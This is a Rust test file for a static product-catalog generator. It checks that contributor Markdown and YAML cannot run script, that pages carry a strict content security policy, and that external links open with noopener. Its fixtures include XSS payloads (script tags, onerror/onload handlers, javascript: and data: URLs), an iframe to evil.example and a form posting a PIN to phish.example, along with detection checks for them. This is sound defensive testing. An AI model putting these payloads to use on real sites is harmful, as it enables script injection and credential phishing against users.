//! Safe output: contributor text cannot run script and keeps its formatting; every
//! page has a strict content security policy and no inline script or style, and
//! chromium sees no violation of it on the sample site (and blocks injected script);
//! every link to another site opens without a handle on ours.

use super::{
    CatalogTest, LIMIT, PRODUCT, good_jpeg, html_pages, run_limited, sample_site, with_photo,
};
use crate::support::static_host::StaticHost;

const HOSTILE_MD: &str = r#"# Cara pesan

Keripik **renyah** dan _gurih_, *pedas*, [lihat toko](https://www.tokopedia.com/kub/keripik).

- satu
- dua

<script>alert('xss-script')</script>
<img src=x onerror="alert('xss-onerror')">
<b onclick="alert('xss-onclick')" style="color:red">tebal</b>
<a href="javascript:alert('xss-js')">klik</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
[md-js](javascript:alert('xss-mdjs'))
<iframe src="https://evil.example/frame"></iframe>
<form action="https://phish.example/steal"><input name="pin"></form>
<svg onload="alert('xss-svg')"><circle r="1"/></svg>
<style>body{display:none}</style>
<object data="https://evil.example/x.swf"></object>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
"#;

#[test]
fn contributor_text_cannot_run_script_and_keeps_its_formatting() {
    let t = CatalogTest::new("minimal");
    t.write(
        &format!("{PRODUCT}/product.yaml"),
        "name: \"Keripik <script>alert('xss-name')</script> \\\"Pare\\\" & 'Co'\"\ncategory: makanan\nprice: 15000\ntags: [\"<img src=x onerror=alert('xss-tag')>\"]\n",
    );
    t.write(&format!("{PRODUCT}/index.md"), HOSTILE_MD);
    t.write(
        "content/desa-contoh/village.yaml",
        "name: \"Desa <b onmouseover=alert('xss-village')>Contoh</b>\"\n",
    );
    let run = run_limited(&t, &["build", "--lang", "en"], LIMIT);
    run.expect(0, "built");
    let page = t.read("public/desa-contoh/keripik-pare/index.html");
    // Formatting kept.
    for kept in [
        "<h2>Cara pesan</h2>",
        "<strong>renyah</strong>",
        "<em>gurih</em>",
        "<strong>pedas</strong>",
        "<li>satu</li>",
        "<b>tebal</b>",
        r#"<a href="https://www.tokopedia.com/kub/keripik" rel="noopener noreferrer">lihat toko</a>"#,
    ] {
        assert!(page.contains(kept), "lacks {kept:?}");
    }
    // The name, escaped in text and in attributes (quotes included, so it cannot close
    // the attribute it stands in).
    let escaped = "Keripik &lt;script&gt;alert(&#39;xss-name&#39;)&lt;/script&gt; &quot;Pare&quot; &amp; &#39;Co&#39;";
    assert!(
        page.contains(&format!("<h1>{escaped}")) || page.contains(&format!(">{escaped}<")),
        "name escaped in text"
    );
    assert!(
        page.contains(&format!("property=\"og:title\" content=\"{escaped}")),
        "name escaped in an attribute"
    );
    for (path, html) in html_pages(&t.path("public")) {
        for (tag, attrs) in etalase::testing::fuzz::tags(&html) {
            // (An inline <svg> of the theme would be fine; the contributor's is caught by its
            // handler and marker below.)
            // The 404 page's inline stylesheet and script are the theme's, allowed by
            // their hashes, and the printed pages' stylesheet is inline (see
            // every_page_has_a_strict_content_security_policy_…).
            let theme_inline = path == "404.html" || path.starts_with("cetak/");
            let forbidden = ["iframe", "object", "embed", "style"];
            assert!(
                !forbidden.contains(&tag.as_str()) || (theme_inline && tag == "style"),
                "{path}: <{tag}>"
            );
            if tag == "meta" {
                assert!(
                    !attrs.iter().any(|(_, v)| v.contains("refresh")),
                    "{path}: <meta refresh>"
                );
            }
            if tag == "script" {
                // JSON-LD is data, not a script a browser runs.
                assert!(
                    attrs
                        .iter()
                        .any(|(n, v)| n == "src" || (n == "type" && v == "application/ld+json"))
                        || path == "404.html"
                        || path == "cari/index.html",
                    "{path}: inline script"
                );
            }
            if tag == "form" {
                assert!(
                    attrs
                        .iter()
                        .all(|(n, v)| n != "action" || !v.contains("//")),
                    "{path}: form to another site"
                );
            }
            for (name, value) in attrs {
                assert!(!name.starts_with("on"), "{path}: <{tag} {name}=>");
                let v = value.trim().to_ascii_lowercase();
                assert!(
                    !v.starts_with("javascript:") && !v.starts_with("data:text"),
                    "{path}: <{tag} {name}={value}>"
                );
            }
        }
        for bad in ["evil.example", "phish.example", "xss-script", "xss-svg"] {
            assert!(!html.contains(bad), "{path} holds {bad:?}");
        }
    }
}

/// Every `<script>` of every page loads one of the site's own files (or is a JSON data
/// block with no `<` inside): nothing inline runs, so the policy below can forbid it.
/// Two kinds of page differ: `404.html`, shown at any address, inlines its stylesheet
/// (and, without a base_url, a script finding the site root), each allowed by its hash
/// alone; the printed catalog (`cetak/`) runs no script at all and has its one
/// stylesheet inline.
#[test]
fn every_page_has_a_strict_content_security_policy_and_no_inline_script_or_style() {
    let t = with_photo("depan.jpg", &good_jpeg());
    run_limited(&t, &["build"], LIMIT).expect(0, "");
    let strict = "default-src 'self'; img-src 'self' data:; script-src 'self'; style-src 'self'; connect-src 'self'; manifest-src 'self'; worker-src 'self'; object-src 'none'; base-uri 'self'; form-action 'self'";
    let paper = "default-src 'self'; img-src 'self' data:; script-src 'none'; style-src 'unsafe-inline'; object-src 'none'; base-uri 'none'; form-action 'none'";
    let pages = html_pages(&t.path("public"));
    assert!(pages.len() >= 6);
    assert!(pages.iter().any(|(p, _)| p == "404.html"));
    assert!(pages.iter().any(|(p, _)| p.starts_with("cetak/")));
    for (path, html) in &pages {
        let head = html.split("</head>").next().unwrap();
        let tag = "<meta http-equiv=\"Content-Security-Policy\" content=\"";
        let meta = head.find(tag).unwrap_or_else(|| panic!("{path}: no CSP"));
        let policy = &head[meta + tag.len()..];
        let policy = &policy[..policy.find('"').unwrap()];
        // Before any stylesheet or script, so it governs them all.
        let first_resource = head
            .find("<link")
            .into_iter()
            .chain(head.find("<script"))
            .chain(head.find("<style"))
            .min();
        assert!(
            first_resource.is_none_or(|r| meta < r),
            "{path}: CSP after a resource"
        );
        let inline = |element: &str| -> Vec<String> {
            html.match_indices(&format!("<{element}"))
                .filter_map(|(i, _)| {
                    let tag = &html[i..i + html[i..].find('>').unwrap()];
                    if tag.contains(" src=\"") || tag.contains("application/ld+json") {
                        return None;
                    }
                    let end = html[i..].find(&format!("</{element}>")).unwrap() + i;
                    Some(html[i + tag.len() + 1..end].to_string())
                })
                .collect()
        };
        if path.starts_with("cetak/") {
            assert_eq!(policy, paper, "{path}");
            assert!(!html.contains("<script"), "{path}: a script on paper");
        } else if path == "404.html" || path == "cari/index.html" {
            let hashed = |text: &str| {
                use base64::Engine as _;
                use sha2::Digest as _;
                let digest = sha2::Sha256::digest(text.as_bytes());
                let b64 = base64::engine::general_purpose::STANDARD.encode(digest);
                format!("'sha256-{b64}'")
            };
            let styles = inline("style");
            if path == "404.html" {
                assert_eq!(styles.len(), 1, "{path}: its stylesheet inline");
            } else {
                // The search page: only the line that keeps the results' place before the
                // first paint (src/site/plan/pages.rs, SEARCH_HOLD).
                assert!(styles.is_empty(), "{path}: inline <style>");
                let scripts = inline("script");
                assert_eq!(scripts.len(), 1, "{path}: {scripts:?}");
                assert!(scripts[0].contains("classList.toggle('asked'"), "{path}");
            }
            for text in styles.iter().chain(&inline("script")) {
                assert!(
                    policy.contains(&hashed(text)),
                    "{path}: not hashed: {text:.80}"
                );
            }
            let without_hashes: Vec<String> = policy
                .split(';')
                .map(|d| {
                    let words: Vec<&str> = d
                        .split_whitespace()
                        .filter(|w| !w.starts_with("'sha256-"))
                        .collect();
                    words.join(" ")
                })
                .collect();
            assert_eq!(without_hashes.join("; "), strict, "{path}");
        } else {
            assert_eq!(policy, strict, "{path}");
            assert_eq!(
                inline("script"),
                Vec::<String>::new(),
                "{path}: inline script"
            );
            assert!(!html.contains("<style"), "{path}: inline <style>");
        }
        for (i, _) in html.match_indices("<script") {
            let tag = &html[i..i + html[i..].find('>').unwrap()];
            let body_end = html[i..].find("</script>").unwrap() + i;
            let body = &html[i + tag.len() + 1..body_end];
            if tag.contains("type=\"application/ld+json\"") {
                assert!(!body.contains('<'), "{path}: `<` in JSON-LD: {body}");
            } else if let Some(src) = tag.split(" src=\"").nth(1) {
                let src = src.split('"').next().unwrap();
                assert!(!src.contains("//"), "{path}: script from elsewhere: {src}");
            }
        }
        assert!(
            !html.contains(" style=\""),
            "{path}: inline style attribute"
        );
        assert!(
            !html.contains(" on") || !has_event_handler(html),
            "{path}: inline handler"
        );
    }
}

fn has_event_handler(html: &str) -> bool {
    html.split('<').skip(1).any(|tag| {
        let tag = tag.split('>').next().unwrap_or("");
        tag.split_whitespace().skip(1).any(|attr| {
            attr.starts_with("on")
                && attr.contains('=')
                && attr[2..]
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_lowercase())
        })
    })
}

#[test]
fn every_link_to_another_site_opens_without_a_handle_on_ours() {
    let t = sample_site();
    let mut external = 0;
    for (path, html) in html_pages(&t.path("public")) {
        for (i, _) in html.match_indices("<a ") {
            let tag = &html[i..i + html[i..].find('>').unwrap()];
            let Some(href) = tag
                .split(" href=\"")
                .nth(1)
                .map(|h| h.split('"').next().unwrap())
            else {
                continue;
            };
            let own = href.starts_with("https://contoh.github.io/katalog/");
            if !own && (href.starts_with("http") || href.starts_with("//")) {
                external += 1;
                assert!(tag.contains("rel=\"noopener noreferrer\""), "{path}: {tag}");
            }
        }
    }
    assert!(external >= 20, "only {external} external links checked");
}

/// The sample site in chromium, every page over http and some from disk: the policy is
/// there, nothing of the site violates it, and it blocks injected script.
#[test]
fn the_sample_site_raises_no_content_security_policy_violation_in_a_real_browser() {
    let t = sample_site();
    let public = t.path("public");
    let host = StaticHost::start(&public);
    let mut pages: Vec<String> = html_pages(&public).into_iter().map(|(p, _)| p).collect();
    pages.sort();
    let mut urls: Vec<String> = pages
        .iter()
        .map(|p| host.url(&format!("/{}", p.trim_end_matches("index.html"))))
        .collect();
    for p in pages.iter().filter(|p| p.matches('/').count() <= 1).take(4) {
        urls.push(format!("file://{}", public.join(p).display()));
    }
    let product = pages
        .iter()
        .find(|p| p.matches('/').count() == 2)
        .unwrap()
        .trim_end_matches("index.html");
    let plan = serde_json::json!({
        "urls": urls,
        "probe": host.url(&format!("/{product}")),
    });
    let seen = crate::support::browser_script("csp.mjs", &plan);
    let seen_pages = seen["pages"].as_array().unwrap();
    assert_eq!(seen_pages.len(), urls.len());
    for page in seen_pages {
        let url = page["url"].as_str().unwrap();
        assert!(
            page["policy"]
                .as_str()
                .unwrap()
                .starts_with("default-src 'self'"),
            "{url}: no policy"
        );
        assert_eq!(page["violations"], serde_json::json!([]), "{url}");
        // The 404 page loads the site's files from its real address (base_url), which
        // this test's browser cannot reach; the policy allows them (checked above).
        if !url.ends_with("/404.html") {
            assert_eq!(page["errors"], serde_json::json!([]), "{url}");
        }
    }
    assert_eq!(
        seen["probe"]["ran"], false,
        "injected script ran: {}",
        seen["probe"]
    );
    let violations = seen["probe"]["violations"].to_string();
    assert!(violations.contains("script-src"), "{violations}");
}
